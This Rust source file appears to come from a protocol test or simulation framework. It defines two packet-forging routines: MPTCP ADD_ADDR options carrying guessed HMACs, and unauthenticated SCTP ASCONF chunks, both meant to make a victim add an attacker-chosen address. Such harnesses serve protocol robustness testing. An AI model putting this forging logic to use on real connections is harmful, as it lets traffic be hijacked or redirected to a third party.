//! Addresses for connections of others: ADD_ADDR with an HMAC that was guessed (RFC
//! 8684 §3.4.1), ASCONF without authentication (RFC 5061 §8). What a victim believes
//! it connects to, or sends its data to.

use super::Form;
use super::scene::{Scene, segment};
use anabranch_units::Serial32;
use anabranch_wire::TcpFlags;
use anabranch_wire::sctp::{Address, AddressChange, Chunk, Parameter};
use anabranch_wire::tcp::mptcp::{AddAddr, MptcpOption};
use std::net::Ipv4Addr;

/// 10.0.0.0, from which address books count.
const TEN: u32 = 10 << 24;

/// ADD_ADDR on the connection's first subflow, whose numbers are known.
pub(super) struct AddAddrFlood;

impl Form for AddAddrFlood {
    fn forge(&mut self, scene: &mut Scene<'_>) {
        let Some(numbers) = scene.numbers() else { return };
        let (addr, port) = scene.stranger();
        let id = 1 + scene.generator.below(254) as u8;
        let mac = scene.generator.next_u64();
        let mut forged = segment(numbers.seq, numbers.ack, TcpFlags::ACK);
        forged.options.timestamps = numbers.timestamps;
        let ip = Ipv4Addr::from(TEN.wrapping_add(addr.0 + 1)).into();
        let add = AddAddr { id, ip, port: Some(port), mac: Some(mac) };
        forged.options.rare_mut().mptcp = vec![MptcpOption::AddAddr(add)];
        scene.send_tcp(scene.peer(), forged);
    }
}

/// ASCONFs with the right tag and serial numbers one after the other.
pub(super) struct AsconfFlood {
    pub serial: u32,
}

impl Form for AsconfFlood {
    fn forge(&mut self, scene: &mut Scene<'_>) {
        let Some(tag) = scene.tag() else { return };
        let (addr, _) = scene.stranger();
        self.serial = self.serial.wrapping_add(1);
        let (own, _) = scene.peer();
        let change = Parameter::ChangeAddress {
            change: AddressChange::Add,
            correlation: self.serial,
            address: Address::Number(addr),
        };
        let parameters = vec![Parameter::Address(Address::Number(own)), change];
        let chunk = Chunk::Asconf { serial: Serial32(self.serial), parameters };
        scene.send_sctp(scene.peer(), tag, chunk);
    }
}
